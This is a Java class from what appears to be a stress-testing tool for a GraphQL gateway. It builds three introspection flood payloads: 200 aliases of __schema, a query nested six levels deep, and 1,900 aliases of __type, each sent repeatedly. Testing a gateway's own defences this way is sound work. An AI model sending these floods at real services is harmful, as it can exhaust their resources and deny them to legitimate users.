package io.lancang.standalone.siege.attack.document;

import static io.lancang.standalone.siege.wire.Json.request;

import io.lancang.standalone.siege.attack.Attack;
import io.lancang.standalone.siege.attack.Flood;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Questions about the schema, which the gateway answers itself. */
public final class IntrospectionAttacks {
    private static final String TYPE = "name kind description fields{name description args{name description}}"
            + " inputFields{name} enumValues{name description}";

    private IntrospectionAttacks() {}

    public static List<Attack> all() {
        return List.of(
                Flood.ofBodies(
                        "schema-aliases",
                        "200 aliases of __schema in 4 KB",
                        2,
                        12,
                        number -> request(IntStream.range(0, 200)
                                        .mapToObj(each -> "a%d:__schema{...S}".formatted(each))
                                        .collect(Collectors.joining(" ", "query A" + number + "{", "}"))
                                + " fragment S on __Schema{types{" + TYPE + "}}")),
                Flood.ofBodies(
                        "schema-recursion",
                        "the types of the fields of the types of the fields …",
                        2,
                        50,
                        number -> request("query R%d{__schema{types{%sname%s}}}"
                                .formatted(number, "fields{type{ofType{".repeat(6), "}}}".repeat(6)))),
                Flood.ofBodies(
                        "type-aliases",
                        "1,900 aliases of __type",
                        2,
                        50,
                        number -> request(IntStream.range(0, 1_900)
                                        .mapToObj(each -> "a%d:__type(name:\"Partner\"){...T}".formatted(each))
                                        .collect(Collectors.joining(" ", "query T" + number + "{", "}"))
                                + " fragment T on __Type{" + TYPE + "}")));
    }
}
